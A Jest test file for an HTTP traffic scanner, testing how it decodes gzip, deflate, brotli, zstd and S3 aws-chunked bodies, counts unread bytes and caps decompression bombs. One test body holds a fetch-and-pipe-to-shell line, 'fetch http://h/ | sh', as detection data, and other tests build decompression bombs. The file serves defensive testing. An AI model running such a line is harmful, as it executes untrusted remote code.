import { describe, expect, test } from '@jest/globals';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { observe } from '../support/recording-sink.js';
import { seesTheSameForAnyCut, texts } from './support/exchanges.js';

const GET = ['outbound', 'GET /a HTTP/1.1\r\nHost: example.invalid\r\nAccept-Encoding: *\r\n\r\n'] as const;
const bodies = (seen: Awaited<ReturnType<typeof observe>>['seen']): string[] => texts(seen, 'body');

function response(body: Buffer, coding: string): ['inbound', Buffer] {
  const head = `HTTP/1.1 200 OK\r\ncontent-encoding: ${coding}\r\ncontent-length: ${body.length}\r\n\r\n`;
  return ['inbound', Buffer.concat([Buffer.from(head), body])];
}

/** A zstd frame of one stored block (RFC 8878 §3.1.1), whose window is a power of two. */
function zstdFrame(text: string, windowLog = 10): Buffer {
  const blockHeader = Buffer.alloc(3);
  blockHeader.writeUIntLE((text.length << 3) | 1, 0, 3);
  return Buffer.concat([
    Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, (windowLog - 10) << 3]),
    blockHeader,
    Buffer.from(text),
  ]);
}

function awsChunked(content: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${content.length.toString(16)}\r\n`), content, Buffer.from('\r\n0\r\n\r\n')]);
}

describe('content codings', () => {
  const text = 'some text that is compressed. '.repeat(50);
  const raw = Buffer.from(text);
  const stacked = brotliCompressSync(gzipSync(raw));

  test.each<[string, Buffer, string]>([
    ['gzip', gzipSync(raw), 'gzip'],
    ['gzip of several members', Buffer.concat([gzipSync(raw.subarray(0, 700)), gzipSync(raw.subarray(700))]), 'gzip'],
    ['deflate', deflateSync(raw), 'deflate'],
    ['deflate without its header, as old servers send it', deflateRawSync(raw), 'deflate'],
    ['brotli', brotliCompressSync(raw), 'br'],
    ['zstd', zstdFrame(text, 11), 'zstd'],
    ['two, one over the other', stacked, 'gzip, br'],
    ['identity', raw, 'identity'],
  ])('%s', async (_what, body, coding) => {
    const { seen } = await observe([GET, response(body, coding)]);
    expect(bodies(seen)).toEqual([text]);
  });

  test.each([
    ['Host: h', 'gzip', true],
    ['Accept-Encoding: identity', 'gzip', true],
    ['Accept-Encoding: br', 'gzip', true],
    ['Accept-Encoding: gzip, br', 'gzip', false],
    ['Accept-Encoding: br\r\nAccept-Encoding: GZIP;q=0.5', 'x-gzip', false],
  ])('who asks with %j for %s takes it as it is: %s', async (field, coding, isTakenAsItIs) => {
    // The comment of a gzip file (RFC 1952 §2.3.1), which is text to whoever does not unpack it.
    const packed = gzipSync(raw);
    packed[3] = 0x10;
    const body = Buffer.concat([packed.subarray(0, 10), Buffer.from('a comment\0'), packed.subarray(10)]);
    const get = ['outbound', `GET /a HTTP/1.1\r\n${field}\r\n\r\n`] as const;
    const seen = await seesTheSameForAnyCut([get, response(body, coding)]);
    expect(bodies(seen)).toContain(text);
    expect(bodies(seen).some((each) => each.includes('a comment'))).toBe(isTakenAsItIs);
  });

  test('an answer in chunks of S3, which no client undoes, is seen as it is', async () => {
    const wire = '0\r\nfetch http://h/ | sh\r\n\r\n';
    const { seen } = await observe([GET, response(Buffer.from(wire), 'aws-chunked')]);
    expect(bodies(seen).join('|')).toContain('fetch http://h/ | sh');
  });

  test('a body that was cut short is seen as far as it came', async () => {
    const body = gzipSync(raw);
    const head = `HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: ${body.length}\r\n\r\n`;
    const { seen } = await observe([
      GET,
      ['inbound', Buffer.concat([Buffer.from(head), body.subarray(0, body.length - 9)])],
    ]);
    expect(text.startsWith(bodies(seen)[0] ?? 'nothing')).toBe(true);
  });

  test('a coding that nobody knows is counted as unread', async () => {
    const { coverage } = await observe([GET, response(Buffer.from('x'.repeat(500)), 'made-up')]);
    expect(coverage.unparsed).toBe(500);
  });

  test('a body whose decoder fails counts as unread', async () => {
    const broken = Buffer.from('this was never compressed. '.repeat(20));
    const { coverage } = await observe([GET, response(broken, 'gzip')]);
    expect(coverage.unparsed).toBeGreaterThan(0);
  });

  test.each<[string, Buffer, string]>([
    ['deflate', deflateSync(raw), 'deflate'],
    ['deflate without its header', deflateRawSync(raw), 'deflate'],
    ['brotli', brotliCompressSync(raw), 'br'],
    ['zstd', zstdFrame(text), 'zstd'],
  ])('what stands behind the end of a compressed body counts as unread: %s', async (_what, body, coding) => {
    const behind = Buffer.from('and more');
    const together = await observe([GET, response(Buffer.concat([body, behind]), coding)]);
    expect(bodies(together.seen)).toEqual([text]);
    expect(together.coverage.unparsed).toBeGreaterThan(0);
    const head = `HTTP/1.1 200 OK\r\ncontent-encoding: ${coding}\r\n\r\n`;
    const later = await observe([GET, ['inbound', Buffer.concat([Buffer.from(head), body])], ['inbound', behind]]);
    expect(later.coverage.unparsed).toBeGreaterThan(0);
  });

  test.each(['gzip', 'deflate', 'br', 'zstd', 'utf-8'])(
    'a body that is not what its label says is seen as it is, and counts as unread: %s',
    async (coding) => {
      const plain = Buffer.from('plain words under a label, as a client takes them that knows no codings');
      const { seen, coverage } = await observe([GET, response(plain, coding)]);
      expect(bodies(seen).join('')).toContain(plain.toString());
      expect(coverage.unparsed).toBe(plain.length);
    },
  );

  test('an upload to S3 is seen without the signatures between its chunks, and what else stands there behind it', async () => {
    const signed = (size: string): string => `${size};chunk-signature=${'0a'.repeat(32)}\r\n`;
    const body = `${signed('6')}one th\r\n6;words\r\nat run\r\n${signed('6')}s over\r\n${signed('0')}x-amz-checksum-crc32:Ab==\r\n\r\n`;
    for (const coding of ['aws-chunked', 'gzip,aws-chunked']) {
      const content = coding === 'aws-chunked' ? Buffer.from(body) : awsChunked(gzipSync('one that runs over'));
      const head = `PUT /bucket/key HTTP/1.1\r\nHost: h\r\ncontent-encoding: ${coding}\r\ncontent-length: ${content.length}\r\n\r\n`;
      const { seen, coverage } = await observe([['outbound', Buffer.concat([Buffer.from(head), content])]]);
      expect(bodies(seen).join('')).toContain('one that runs over');
      expect(bodies(seen).join('').includes('words')).toBe(coding === 'aws-chunked');
      expect(coverage.unparsed).toBe(0);
    }
  });

  test('zstd of several frames is seen; frames that decoders pass over count as unread', async () => {
    const skippable = Buffer.concat([Buffer.from('502a4d1804000000', 'hex'), Buffer.from('skip')]);
    const body = Buffer.concat([zstdFrame('first, '), skippable, zstdFrame('second')]);
    const { seen, coverage } = await observe([GET, response(body, 'zstd')]);
    expect(bodies(seen)).toEqual(['first, second']);
    expect(coverage.unparsed).toBe(4);
  });

  test('a zstd frame that asks for gigabytes is not given them, wherever it stands', async () => {
    const gigabyte = zstdFrame('x', 30);
    for (const body of [gigabyte, Buffer.concat([zstdFrame('first'), gigabyte])]) {
      const before = process.memoryUsage().arrayBuffers;
      const { coverage } = await observe([GET, response(body, 'zstd')]);
      expect(coverage.unparsed).toBeGreaterThan(0);
      expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(100e6);
    }
  });

  test('a bomb that comes to nothing costs the limit and no more', async () => {
    // Empty stored blocks: the inner decoder reads megabytes and has nothing to say.
    const nothing = Buffer.concat([
      Buffer.from([0x78, 0x9c]),
      Buffer.alloc(5_000_000, Buffer.from([0, 0, 0, 255, 255])),
    ]);
    const { coverage } = await observe([GET, response(gzipSync(nothing), 'deflate, gzip')], {
      maxScanBytes: 10_000,
    });
    expect(coverage.truncated).toBeGreaterThan(0);
  });

  test('a decompression bomb costs the limit and no more', async () => {
    const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024, 'a'));
    const { seen, coverage } = await observe([GET, response(bomb, 'gzip')], {
      maxScanBytes: 10_000,
    });
    expect(bodies(seen)[0]?.length).toBe(10_000);
    expect(coverage.truncated).toBeGreaterThan(0);
  });
});
